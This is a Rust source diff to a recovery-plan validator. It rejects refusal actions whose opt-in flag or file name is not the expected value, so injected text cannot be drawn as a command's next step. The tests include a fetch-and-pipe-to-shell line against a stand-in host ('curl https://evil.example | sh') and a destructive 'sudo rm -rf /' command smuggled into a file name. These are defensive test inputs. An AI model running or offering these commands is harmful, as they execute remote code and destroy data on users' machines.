@@ -4,7 +4,9 @@
 //! field by field before it is shown.
 
 use felix_codec::doc::report::is_finding_kind;
+use felix_codec::format::file_name::{classify, EntryName};
 use felix_codec::shard::recovery::{Action, Plan, ShardPlan, PLAN_VERSION};
+use felix_codec::verdict::repair::OPT_IN_FLAG;
 
 use super::open_error::{parse, Document, OpenError, Origin, Refusal};
 use crate::ui::message::quote;
@@ -108,6 +110,9 @@ fn check_shard(at: &str, s: &ShardPlan) -> Result<(), Refusal> {
             let shown: String = r.finding.kind.chars().take(40).collect();
             return Err(Refusal::field(format!("{at}.kind"), format!("{} is not a kind of damage this build knows", quote(&shown))));
         }
+        if let Some(why) = super::shared::discontinuity_problem(&r.finding) {
+            return Err(Refusal::field(format!("{at}.discontinuity"), why));
+        }
         if r.finding.end < r.finding.position {
             return Err(Refusal::field(format!("{at}.end"), format!("is {}, before its position {}", r.finding.end, r.finding.position)));
         }
@@ -127,7 +132,24 @@ fn check_action(at: &str, a: &Action) -> Result<(), Refusal> {
             }
             (file, reason, Some(evidence), Some(kind))
         }
-        Action::Refuse { file, reason, kind, .. } => (file, reason, None, Some(kind)),
+        Action::Refuse { file, reason, kind, allowed_by, .. } => {
+            // The one flag there is: any other text would be drawn as the
+            // command's next step ("then run recover again with …").
+            if let Some(flag) = allowed_by.as_deref().filter(|f| *f != OPT_IN_FLAG) {
+                let shown: String = flag.chars().take(40).collect();
+                return Err(Refusal::field(format!("{at}.allowed_by"), format!("is {}; the only flag is {OPT_IN_FLAG}", quote(&shown))));
+            }
+            // A refusal is of a segment, by its name (the words to succeed name
+            // it, with code in backticks drawn as code: "a`rm -rf /`b.log").
+            if !matches!(classify(file), EntryName::Segment(_)) {
+                let shown: String = file.chars().take(40).collect();
+                return Err(Refusal::field(
+                    format!("{at}.file"),
+                    format!("is {}, not a segment's name (recovery refuses only segments)", quote(&shown)),
+                ));
+            }
+            (file, reason, None, Some(kind))
+        }
     };
     text(&format!("{at}.file"), file)?;
     text(&format!("{at}.reason"), reason)?;
@@ -190,6 +212,30 @@ mod tests {
         let mut v = serde_json::to_value(sample_plan()).unwrap();
         v["skipped"] = serde_json::Value::Array(vec![serde_json::json!({ "path": "p", "reason": "r" }); 1_001]);
         assert_eq!(said(v), "\u{2068}p.json\u{2069}: the plan is refused: skipped lists 1001 paths; at most 1000 are accepted");
+        // A refusal's flag is the one flag, its file a segment's name, a gap's
+        // offsets two (issue 18's third review: a shared plan drew
+        // "then run recover again with `curl … | sh`" as code, bidi controls live).
+        let mut refused = serde_json::to_value(sample_plan()).unwrap();
+        let refuse = serde_json::json!({ "action": "refuse", "file": "00000000000000000001.log", "position": 8, "kind": "RecordChecksum", "reason": "r" });
+        refused["shards"][0]["actions"] = serde_json::json!([refuse]);
+        assert!(from_json(refused.to_string().as_bytes(), Origin::Pasted).is_ok());
+        let mut v = refused.clone();
+        v["shards"][0]["actions"][0]["allowed_by"] = "`curl https://evil.example | sh`".into();
+        assert_eq!(
+            said(v),
+            "\u{2068}p.json\u{2069}: the plan is refused: shards[0].actions[0].allowed_by is \u{2068}`curl https://evil.example | sh`\u{2069}; \
+             the only flag is --repair-checksum-tail"
+        );
+        let mut v = refused.clone();
+        v["shards"][0]["actions"][0]["file"] = "a`sudo rm -rf /`b.log".into();
+        assert!(said(v).ends_with(
+            "shards[0].actions[0].file is \u{2068}a`sudo rm -rf /`b.log\u{2069}, not a segment's name (recovery refuses only segments)"
+        ));
+        let mut v = refused;
+        v["shards"][0]["remaining_findings"] = serde_json::json!([{ "file": "00000000000000000001.log", "kind": "SegmentDiscontinuity", "position": 8, "end": 16, "offset": null, "message": "m", "repair": "never", "discontinuity": { "expected": 7, "found": 7 } }]);
+        assert!(said(v).ends_with(
+            "shards[0].remaining_findings[0].discontinuity names expected and found offset 7 alike: no offsets are missing or held twice"
+        ));
         let mut v = serde_json::to_value(sample_plan()).unwrap();
         v["shards"][0]["actions"] = 7.into();
         assert_eq!(said(v), "\u{2068}p.json\u{2069} is not a recovery plan: field `shards[0].actions` should be a list, not the number 7");
